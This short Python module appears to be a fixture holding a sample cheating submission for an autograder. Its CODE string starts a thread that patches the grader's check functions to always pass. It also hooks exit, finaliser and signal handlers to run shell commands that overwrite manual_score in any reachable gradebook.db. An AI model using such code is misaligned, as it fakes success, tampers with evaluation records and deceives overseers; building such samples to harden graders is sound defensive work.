"""Nothing is solved; a thread replaces the checks later; at its end, the process tries to change the gradebook."""

KIND = "threads"
CODE = '''
import atexit, os, signal, sqlite3, threading, time, weakref
from parity_checks import core, rpc

def patch():
    while True:
        time.sleep(0.01)
        core.from_student = lambda value, name: True
        core._find = lambda name: lambda *given: True
        rpc.answer = lambda text: rpc.Answer('["value", true]')

def at_the_end(*given):
    for ups in range(5):
        os.system(f"sqlite3 {'../' * ups}gradebook.db 'update grade set manual_score = 4'")

class Last:
    __del__ = at_the_end

last = Last()
atexit.register(at_the_end)
weakref.finalize(last, at_the_end)
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGCHLD):
    signal.signal(number, at_the_end)
threading.Thread(target=patch).start()
'''
